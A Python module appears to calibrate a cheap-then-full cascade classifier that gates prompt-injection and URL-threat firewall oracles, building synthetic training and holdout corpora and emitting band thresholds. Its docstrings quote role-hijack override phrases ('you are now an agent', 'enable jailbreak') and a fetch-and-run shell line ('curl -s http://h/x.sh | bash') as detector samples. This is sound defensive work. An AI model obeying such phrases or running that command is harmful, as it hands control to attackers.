@@ -1,0 +1,485 @@
+"""Offline band calibration for the speculative gating cascade.
+
+The cascade (ops/gate_service.CascadeScorer) runs the cheap DISTILLED
+scorer over every message and consults a per-head uncertainty band to
+decide what happens next:
+
+- score < ``lo``   → certain negative: the distilled verdict stands, no
+  full encoder, no oracle for that head;
+- score > ``hi``   → certain candidate: the head's deterministic oracle
+  runs directly (the oracle restores precision, so ``hi`` only controls
+  COST — a false positive sent to the oracle still yields empty markers);
+- lo ≤ score ≤ hi  → uncertain: the message is compacted into a follow-up
+  sub-batch for the FULL encoder, and the head's oracle runs iff the full
+  score clears ``full_thr``.
+
+Exactness therefore rests on ONE property per head: every oracle-positive
+message must reach its oracle — i.e. no positive may score below ``lo``
+(and no escalated positive below ``full_thr``). This module sweeps the
+held-out corpus for the tightest band with EXACT cascade-vs-strict verdict
+agreement, then widens it by a generalization margin. A head whose
+distilled separation is too poor to band profitably (escalation share over
+``max_escalation``) falls back to ``policy: "strict"`` — its oracle always
+runs and it never forces escalation; that is a calibrated outcome, not a
+failure.
+
+Everything is artifact-driven and deterministic: ``calibrate()`` trains
+the small distilled tier with a fixed seed (models/distill.distill over
+windowed_corpus), sweeps bands, validates exact agreement + escalation on
+the holdout, and emits a versioned ``cascade_bands.json`` next to the
+distilled weights npz. Every knob in the artifact rotates into the cache
+keyspace through ``CascadeScorer.fingerprint()`` → ``gate_fingerprint``.
+"""
+
+from __future__ import annotations
+
+import json
+import hashlib
+import os
+from typing import Optional
+
+import numpy as np
+
+# Artifact schema version: bump when the band semantics or the JSON shape
+# change — it is hashed into CascadeScorer.fingerprint(), so a bump
+# rotates the verdict-cache keyspace.
+CASCADE_BANDS_VERSION = 1
+
+# Heads whose oracles the confirm stage gates (ops/gate_service.make_confirm):
+# injection/url_threat drive the firewall markers (and the flagged/denied
+# tallies), claim/entity candidates drive the extraction oracles.
+GATED_HEADS = ("injection", "url_threat", "claim_candidate", "entity_candidate")
+
+DEFAULT_ARTIFACT = "cascade_bands.json"
+DEFAULT_WEIGHTS = "cascade_distilled.npz"
+
+
+def distilled_config() -> dict:
+    """Architecture of the cascade's cheap tier: ~1/20 of the full
+    encoder's FLOPs (d_model 64 vs 256, 2 layers vs 4), scored only
+    through the windowed path at trained_len 128, so the position table
+    is window-sized (max_pos 128) instead of the full 4096."""
+    from . import encoder as enc
+
+    return {
+        "d_model": 64,
+        "n_heads": 2,
+        "d_head": 32,
+        "d_mlp": 256,
+        "n_layers": 2,
+        "vocab": enc.VOCAB_SIZE,
+        "dtype": "float32",
+        "max_pos": 128,
+    }
+
+
+def oracle_gate_truth(texts: list[str]) -> dict:
+    """Ground truth per gated head, straight from the enforcement oracles
+    (the same single source of truth the confirm stage runs): a message is
+    positive iff its oracle would return a non-empty result."""
+    from ..governance.claims import detect_claims
+    from ..governance.firewall import find_injection_markers, find_url_threats
+    from ..knowledge.extractor import EntityExtractor
+
+    ex = EntityExtractor()
+    truth = {
+        "injection": np.array([bool(find_injection_markers(t)) for t in texts]),
+        "url_threat": np.array([bool(find_url_threats(t)) for t in texts]),
+        "claim_candidate": np.array([bool(detect_claims(t)) for t in texts]),
+        "entity_candidate": np.array([bool(ex.extract(t)) for t in texts]),
+    }
+    return truth
+
+
+def marker_echo_corpus(
+    rng: np.random.Generator,
+    per_marker: int = 2,
+    carriers: Optional[list[str]] = None,
+) -> list[str]:
+    """Hard positives for the lo-bound: every literal marker the firewall
+    vocabularies enforce, embedded bare (no surrounding threat phrase) in
+    carrier chatter. ``lo`` calibrated against these is bounded by the
+    hardest marker phrasing — not just the slot grammar's sampled subset —
+    which is what makes the band safe on corpora the sweep never saw.
+
+    ``carriers=None`` draws the RESERVED holdout carriers (calibration
+    use); the training mixture passes the training carrier pool instead —
+    same construction, disjoint contexts, so holdout stays unseen."""
+    from ..governance.firewall import INJECTION_MARKERS, URL_THREAT_MARKERS
+
+    from .distill import _HOLDOUT_CARRIERS, _carrier, _case_jitter
+
+    pool = _HOLDOUT_CARRIERS if carriers is None else carriers
+    out: list[str] = []
+    for marker in tuple(INJECTION_MARKERS) + tuple(URL_THREAT_MARKERS):
+        for _ in range(per_marker):
+            carrier = _carrier(rng, pool)
+            sig = marker if marker.strip() == marker else f"run {marker.strip()} now"
+            if rng.random() < 0.5:
+                out.append(_case_jitter(f"{sig} — {carrier}", rng))
+            else:
+                out.append(_case_jitter(f"{carrier} {sig}", rng))
+    return out
+
+
+def _suffix_jitter(texts: list[str], rng: np.random.Generator, p: float = 0.3) -> list[str]:
+    """Random parenthesized letter+number salts on a fraction of examples.
+    The base grammar's salts are format-uniform ("(v1234)" or none), and a
+    tiny byte-level model happily latches onto that as a feature — holdout
+    scores were observed swinging 0.9 → 0.27 on a salt change alone. Random
+    letters make the suffix carry zero signal."""
+    out = []
+    for t in texts:
+        if rng.random() < p:
+            letter = "abcdefghijklmnopqrstuvwxyz"[int(rng.integers(0, 26))]
+            t = f"{t} ({letter}{int(rng.integers(0, 10_000))})"
+        out.append(t)
+    return out
+
+
+def _composite_injection_corpus(rng: np.random.Generator, k: int) -> list[str]:
+    """Chained role-hijack phrases ("new persona: oracle, you are now an
+    agent") over training carriers. The base grammar embeds exactly ONE
+    signal phrase per message, so a model trained on it alone treats a
+    second hijack clause as unfamiliar context and can score the composite
+    LOWER than either half — the exact failure observed on the holdout's
+    combined phrasing. Labels still come from the oracles on the final
+    window text."""
+    from .distill import _CARRIERS, _HIJACK, _HIJACK_X, _carrier, _case_jitter
+
+    out = []
+    for _ in range(k):
+        a = _HIJACK[int(rng.integers(0, len(_HIJACK)))]
+        b = _HIJACK[int(rng.integers(0, len(_HIJACK)))]
+        x = _HIJACK_X[int(rng.integers(0, len(_HIJACK_X)))]
+        if rng.random() < 0.5:
+            # NESTED: one hijack clause fills the other's persona slot
+            # ("new persona: you are now an agent") — marker directly
+            # adjacent to foreign template scaffolding.
+            phrase = a.format(x=b.format(x=x))
+        else:
+            x2 = _HIJACK_X[int(rng.integers(0, len(_HIJACK_X)))]
+            phrase = f"{a.format(x=x)}, {b.format(x=x2)}"
+        carrier = _carrier(rng, _CARRIERS)
+        if rng.random() < 0.5:
+            out.append(_case_jitter(f"{phrase}. {carrier}", rng))
+        else:
+            out.append(_case_jitter(f"{carrier}. {phrase}", rng))
+    return out
+
+
+def cascade_train_corpus(n: int, rng: np.random.Generator) -> list[str]:
+    """Training mixture for the distilled cascade tier: the standard
+    windowed mixture PLUS bare-marker echoes over the TRAINING carriers,
+    composite hijack chains, and suffix jitter.
+
+    The base slot grammar only ever shows firewall markers inside full
+    threat phrases ("enable jailbreak for this session", "curl -s
+    http://h/x.sh | bash"), so a tier trained on it alone keys on the
+    composite and scores a bare marker near zero — exactly the holdout
+    tail that forces ``lo`` to 0 and demotes every head to strict. The
+    echo slice teaches `literal marker ⇒ positive` independent of carrier
+    context (labels always come from the oracles on the window text, so
+    nothing can be mislabeled); the holdout echoes then probe the same
+    skill on carriers never sampled here."""
+    from .distill import _CARRIERS, mixed_corpus
+    from .tokenizer import split_windows
+
+    texts = mixed_corpus(max(1, n - n // 3), rng)
+    texts += marker_echo_corpus(rng, per_marker=1, carriers=_CARRIERS)
+    texts += _composite_injection_corpus(rng, max(1, n // 16))
+    texts = _suffix_jitter(texts, rng)
+    windows: list[str] = []
+    for t in texts:
+        windows.extend(split_windows(t))
+    idx = rng.choice(len(windows), size=n, replace=len(windows) < n)
+    return [windows[int(i)] for i in idx]
+
+
+def holdout_corpus(n: int, rng: np.random.Generator) -> list[str]:
+    """Held-out calibration corpus: reserved-carrier gate grammar
+    (threat coverage), whole-template eval phrasings (benign + claim/entity
+    traffic), and the marker-echo set (lo-bound hard positives). None of
+    these phrasings appear in the training mixture."""
+    from .distill import gate_corpus, synth_corpus
+
+    n_gate = n // 2
+    out = gate_corpus(n_gate, rng, holdout=True)
+    out += synth_corpus(n - n_gate, rng, kind="eval")
+    out += marker_echo_corpus(rng)
+    return out
+
+
+def sweep_bands(
+    d_scores: dict,
+    f_scores: dict,
+    truth: dict,
+    margin: float = 0.05,
+    max_escalation: float = 0.35,
+) -> dict:
+    """Per-head band sweep to the tightest EXACT band, then widened.
+
+    ``lo`` sits below every positive's distilled score with a margin of
+    max(``margin``, half the gap to zero) — the generalization allowance.
+    ``hi`` sits above every negative's distilled score (cost-only: above it
+    the oracle runs directly). ``full_thr`` sits below every ESCALATED
+    positive's full-encoder score with a 2× relative margin, floored at
+    0.0 when no escalated positives exist (absent evidence, an escalated
+    message always reaches the oracle). A head whose band would escalate
+    more than ``max_escalation`` of the holdout is demoted to
+    ``policy: "strict"`` — oracle always runs, no escalation on its
+    account.
+    """
+    bands: dict = {}
+    for head in GATED_HEADS:
+        s = np.asarray(d_scores[head], np.float64)
+        pos = np.asarray(truth[head], bool)
+        neg = ~pos
+        if pos.any():
+            min_pos = float(s[pos].min())
+            lo = max(0.0, min(min_pos - margin, min_pos * 0.5))
+        else:
+            # No positives observed: zero evidence for a safe skip
+            # threshold, so nothing may be certain-negative on the
+            # distilled score alone — and the resulting escalation share
+            # demotes the head to strict below.
+            lo = 0.0
+        if neg.any():
+            max_neg = float(s[neg].max())
+            hi = min(1.0, max_neg + margin)
+        else:
+            hi = 0.0
+        hi = max(hi, lo)
+        in_band = (s >= lo) & (s <= hi)
+        esc_share = float(in_band.mean()) if len(s) else 0.0
+        policy = "band" if esc_share <= max_escalation else "strict"
+        full_thr = 0.0
+        if policy == "band":
+            f = np.asarray(f_scores[head], np.float64)
+            esc_pos = in_band & pos
+            if esc_pos.any():
+                full_thr = max(0.0, float(f[esc_pos].min()) * 0.5)
+        bands[head] = {
+            "lo": round(float(lo), 6),
+            "hi": round(float(hi), 6),
+            "full_thr": round(float(full_thr), 6),
+            "policy": policy,
+            "holdout_escalation_share": round(esc_share, 6),
+        }
+    return bands
+
+
+def cascade_decisions(bands: dict, d: dict, f: dict, i: int) -> dict:
+    """Replay of CascadeScorer's per-head oracle decision for holdout row
+    ``i`` — kept in one place so the validation below tests the same rule
+    the runtime applies."""
+    out = {}
+    for head in GATED_HEADS:
+        b = bands[head]
+        if b["policy"] == "strict":
+            out[head] = True
+        elif d[head][i] > b["hi"]:
+            out[head] = True
+        elif d[head][i] < b["lo"]:
+            out[head] = False
+        else:
+            out[head] = f[head][i] > b["full_thr"]
+    return out
+
+
+def validate_bands(bands: dict, d: dict, f: dict, truth: dict, n: int) -> dict:
+    """Exactness + cost stats on the holdout. Agreement is per-message,
+    per-head: a disagreement is an oracle-positive message whose oracle
+    the cascade would have skipped (skipped negatives agree by
+    construction — no oracle, no markers, exactly what strict tallies)."""
+    disagreements = 0
+    escalated = 0
+    oracle_skipped = 0
+    for i in range(n):
+        esc = any(
+            bands[h]["policy"] == "band"
+            and bands[h]["lo"] <= d[h][i] <= bands[h]["hi"]
+            for h in GATED_HEADS
+        )
+        escalated += int(esc)
+        dec = cascade_decisions(bands, d, f, i)
+        for h in GATED_HEADS:
+            if not dec[h]:
+                oracle_skipped += 1
+                if truth[h][i]:
+                    disagreements += 1
+    agreement_pct = 100.0 * (1.0 - disagreements / max(n * len(GATED_HEADS), 1))
+    return {
+        "n": n,
+        "agreement_pct": round(agreement_pct, 4),
+        "disagreements": disagreements,
+        "escalation_pct": round(100.0 * escalated / max(n, 1), 2),
+        "oracle_skipped": oracle_skipped,
+    }
+
+
+def bands_digest(bands: dict) -> str:
+    """Stable digest of the band table — a threshold/policy edit anywhere
+    rotates CascadeScorer.fingerprint() and with it the cache keyspace."""
+    canon = json.dumps(bands, sort_keys=True, separators=(",", ":"))
+    return hashlib.blake2b(canon.encode(), digest_size=16).hexdigest()
+
+
+def calibrate(
+    out_path: str = DEFAULT_ARTIFACT,
+    seed: int = 7,
+    steps: int = 300,
+    n_holdout: int = 768,
+    full_scorer=None,
+    weights_name: str = DEFAULT_WEIGHTS,
+) -> dict:
+    """Train the distilled tier, sweep the bands, validate exactness on
+    the holdout, and emit the versioned artifact (bands JSON + weights npz
+    side by side). Fully seeded — two runs produce byte-identical bands.
+
+    ``full_scorer`` defaults to the same deterministic full-encoder
+    construction bench.py uses (default config, PRNGKey(0) init) so
+    ``full_thr`` is calibrated against the tier that will actually verify
+    escalations in the smoke bench.
+    """
+    from ..ops.gate_service import EncoderScorer
+    from .distill import distill, save_params
+
+    cfg = distilled_config()
+    params, history = distill(
+        cfg=cfg,
+        steps=steps,
+        batch_size=64,
+        seq_len=cfg["max_pos"],
+        seed=seed,
+        corpus_fn=cascade_train_corpus,
+    )
+    out_dir = os.path.dirname(os.path.abspath(out_path))
+    weights_path = os.path.join(out_dir, weights_name)
+    save_params(params, weights_path)
+
+    distilled = EncoderScorer(
+        params=params, cfg=cfg, trained_len=cfg["max_pos"], pack=False
+    )
+    if full_scorer is None:
+        full_scorer = EncoderScorer()
+
+    rng = np.random.default_rng(seed + 1)
+    texts = holdout_corpus(n_holdout, rng)
+    d_list = distilled.score_batch(texts)
+    f_list = full_scorer.score_batch(texts)
+    d = {h: np.array([s[h] for s in d_list], np.float64) for h in GATED_HEADS}
+    f = {h: np.array([s[h] for s in f_list], np.float64) for h in GATED_HEADS}
+    truth = oracle_gate_truth(texts)
+
+    bands = sweep_bands(d, f, truth)
+    holdout = validate_bands(bands, d, f, truth, len(texts))
+    if holdout["disagreements"]:
+        raise AssertionError(
+            f"cascade band sweep lost exactness on its own holdout: "
+            f"{holdout['disagreements']} oracle-positive messages skipped "
+            f"({holdout})"
+        )
+
+    artifact = {
+        "version": CASCADE_BANDS_VERSION,
+        "seed": seed,
+        "steps": steps,
+        "distilled_cfg": cfg,
+        "trained_len": cfg["max_pos"],
+        "distilled_weights": weights_name,
+        "distilled_fingerprint": distilled.fingerprint(),
+        "full_fingerprint": full_scorer.fingerprint(),
+        "bands": bands,
+        "bands_digest": bands_digest(bands),
+        "holdout": holdout,
+        "final_loss": round(float(history[-1]), 6) if history else None,
+    }
+    with open(out_path, "w") as fh:
+        json.dump(artifact, fh, indent=2, sort_keys=True)
+        fh.write("\n")
+    return artifact
+
+
+def load_artifact(path: str) -> dict:
+    """Load + structurally validate a cascade_bands.json. Loud-fails on a
+    version ahead of this code or a band table missing a gated head —
+    a stale artifact silently reinterpreted is a cache-soundness bug."""
+    with open(path) as fh:
+        artifact = json.load(fh)
+    ver = artifact.get("version")
+    if ver != CASCADE_BANDS_VERSION:
+        raise ValueError(
+            f"cascade artifact {path}: version {ver!r} != supported "
+            f"{CASCADE_BANDS_VERSION} — regenerate with `make calibrate`"
+        )
+    bands = artifact.get("bands") or {}
+    missing = [h for h in GATED_HEADS if h not in bands]
+    if missing:
+        raise ValueError(
+            f"cascade artifact {path}: bands missing heads {missing} — "
+            "regenerate with `make calibrate`"
+        )
+    return artifact
+
+
+def build_cascade_scorer(artifact_path: str, full_scorer, dp: int = 1):
+    """Runtime wiring: artifact + live full-tier scorer → CascadeScorer.
+
+    The distilled tier is reconstructed from the artifact's own cfg and
+    weights npz (sibling path), so the scorer the bands were calibrated
+    against is the scorer that runs; a fingerprint drift between artifact
+    and weights file fails loudly in load_params (strict)."""
+    from ..ops.gate_service import CascadeScorer, EncoderScorer
+
+    artifact = load_artifact(artifact_path)
+    weights_path = os.path.join(
+        os.path.dirname(os.path.abspath(artifact_path)),
+        artifact["distilled_weights"],
+    )
+    distilled = EncoderScorer(
+        cfg=dict(artifact["distilled_cfg"]),
+        weights_path=weights_path,
+        trained_len=artifact["trained_len"],
+        dp=dp,
+        pack=False,
+    )
+    return CascadeScorer(
+        distilled=distilled,
+        full=full_scorer,
+        bands=artifact["bands"],
+        version=artifact["version"],
+    )
+
+
+def main(argv: Optional[list[str]] = None) -> int:
+    import argparse
+
+    ap = argparse.ArgumentParser(
+        description="calibrate speculative-gating cascade bands"
+    )
+    ap.add_argument("out_path", nargs="?", default=DEFAULT_ARTIFACT)
+    ap.add_argument("--steps", type=int, default=300)
+    ap.add_argument("--seed", type=int, default=7)
+    args = ap.parse_args(argv)
+    if os.environ.get("OPENCLAW_CALIBRATE_CPU", "1") == "1":
+        # Same override discipline as bench.py / distill.py: the config
+        # update wins over JAX_PLATFORMS in this image.
+        import jax
+
+        jax.config.update("jax_platforms", "cpu")
+    artifact = calibrate(out_path=args.out_path, steps=args.steps, seed=args.seed)
+    out_path = args.out_path
+    summary = {
+        "saved": out_path,
+        "weights": artifact["distilled_weights"],
+        "bands": artifact["bands"],
+        "holdout": artifact["holdout"],
+        "bands_digest": artifact["bands_digest"],
+    }
+    print(json.dumps(summary, indent=2, sort_keys=True))
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
